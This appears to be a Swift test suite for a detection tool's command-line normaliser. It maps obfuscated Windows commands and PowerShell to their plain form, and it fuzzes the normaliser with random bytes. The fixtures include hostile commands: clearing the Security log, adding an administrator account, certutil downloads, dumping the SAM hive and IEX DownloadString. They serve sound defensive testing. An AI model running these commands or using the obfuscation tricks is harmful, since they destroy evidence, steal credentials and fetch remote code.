import EventModel
import Testing

@testable import Sigma

/// Commands and scripts as operators write them so that nobody finds them, and what is left of that.
@Suite struct PlainTextTests {
  static let commands: [(written: String, plain: String)] = [
    (#"cmd /c w^e^vtutil c^l Security"#, #"cmd /c wevtutil cl Security"#),
    (#"wevtutil  "cl" "Security""#, #"wevtutil cl Security"#),
    (#"net loc"al"group administrators x "/add""#, #"net localgroup administrators x /add"#),
    (#"net us""er x /add"#, #"net user x /add"#),
    ("certutil \u{2013}urlcache \u{2014}f\u{A0}http://192.0.2.1/a", "certutil -urlcache -f http://192.0.2.1/a"),
    ("reg\u{200B} sa\u{AD}ve HKLM\\SAM\u{3000}a", "reg save HKLM\\SAM a"),
    (#"power`shell -e`nc AAAA"#, "powershell -enc AAAA"),
    (#"powershell "IEX ('Down' + 'loadString')""#, #"powershell "IEX ('DownloadString')""#),
    (#"%PUBLIC%\a.exe -k"#, #"C:\Users\Public\a.exe -k"#),
    (#"%AllUsersProfile%\a\b.dll,%unknown%"#, #"C:\ProgramData\a\b.dll,%unknown%"#),
    (#"%TEMP%\a.exe"#, #"C:\Users\%USERNAME%\AppData\Local\Temp\a.exe"#),
    (
      #"powershell -File $env:PUBLIC\a.ps1 ${env:ProgramFiles(x86)}\b"#,
      #"powershell -File C:\Users\Public\a.ps1 C:\Program Files (x86)\b"#
    ),
    (#"msbuild C:/ProgramData/a.csproj /nologo"#, #"msbuild C:\ProgramData\a.csproj /nologo"#),
    (#"C:\\Windows\\Temp\\a.exe"#, #"C:\Windows\Temp\a.exe"#),
    (#"\\?\C:\Users\Public\a.exe"#, #"C:\Users\Public\a.exe"#),
    (#"\??\C:\Windows\Temp\a.sys"#, #"C:\Windows\Temp\a.sys"#),
    (#"C:\Windows\Help\..\Temp\.\a.exe"#, #"C:\Windows\Temp\a.exe"#),
    (#"copy \\localhost\c$\Users\Public\a b"#, #"copy c:\Users\Public\a b"#),
    (#"C:\PROGRA~3\a.xml"#, #"C:\ProgramData\a.xml"#),
    (#"C:\Windows\Sysnative\cmd.exe"#, #"C:\Windows\System32\cmd.exe"#),
    (#"%OSDRIVE%\PROGRAMDATA\A.EXE"#, #"C:\PROGRAMDATA\A.EXE"#),
  ]

  @Test(arguments: commands)
  func commandIsPlain(written: String, plain: String) {
    #expect(form(written, .command) == plain)
  }

  @Test(arguments: [
    "", "cmd", #""C:\Program Files\a b\c.exe" -x "two words""#, "wevtutil cl Security", #"\\server\share\a b"#,
    #"certutil -f http://192.0.2.1/a//b ftp://x/"#, #"--url=https://a.example/?b=c&d=e"#, "100% %", "a + b", "$PSHOME",
    #"find . -name a"#, "%", "%%", "$env:", "日本語の引数 表 ソ", #"..\a.exe"#, #"\..\..\"#,
  ])
  func ordinaryTextStays(text: String) {
    #expect(form(text, .command) == text)
  }

  static let scripts: [(written: String, plain: String)] = [
    ("$c='Win32_Shadow' + \n'copy'", "$c='Win32_Shadowcopy'"),
    ("Ge`t-Wm`iObject `\r\n  -Class x", "Get-WmiObject    -Class x"),
    ("\"a `nb\" \u{2013}Name x", "\"a  b\" -Name x"),
    ("copy a $env:PUBLIC\\b", "copy a C:\\Users\\Public\\b"),
    ("'^a  b'", "'^a  b'"),
  ]

  @Test(arguments: scripts)
  func scriptIsPlain(written: String, plain: String) {
    #expect(form(written, .script) == plain)
  }

  /// Any bytes: no trap, no growth out of proportion, and what is passed over quickly is what would not have changed.
  @Test func anyBytes() {
    var random = SystemRandomNumberGenerator()
    let seed = UInt64.random(in: 0..<UInt64.max, using: &random)
    var state = seed
    let pieces =
      [
        "^", "\"", "'", "+", " ", "  ", "\\", "\\\\", "/", ":", "C:", "..", ".", "%", "PUBLIC", "$env:", "${env:", "}",
        "TEMP",
        "\u{2013}", "\u{A0}", "\u{200B}", "`", "`n", "\n", "a", "localhost", "c$", "?", "~1", "PROGRA", "sysnative",
        "表",
      ].map { Array($0.utf8) } + [[0xE2], [0xE2, 0x80], [0xC2], [0xEF, 0xBB]]
    func next(_ bound: Int) -> Int {
      state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
      return Int(state >> 33) % bound
    }
    for _ in 0..<20_000 {
      let bytes = (0..<next(14)).flatMap { _ in pieces[next(pieces.count)] }
      for kind in [PlainText.Kind.command, .script] {
        let plain = PlainText.plain(bytes, kind)
        #expect(plain.count <= bytes.count * 10 + 64, "seed \(seed)")
        if !PlainSigns.stand(in: bytes.span, kind) {
          #expect(plain == bytes, "seed \(seed): \(String(decoding: bytes, as: UTF8.self).debugDescription)")
        }
      }
    }
  }

  private func form(_ text: String, _ kind: PlainText.Kind) -> String {
    let bytes = Array(text.utf8)
    return String(decoding: PlainText.of(bytes.span, kind: kind) ?? bytes, as: UTF8.self)
  }
}
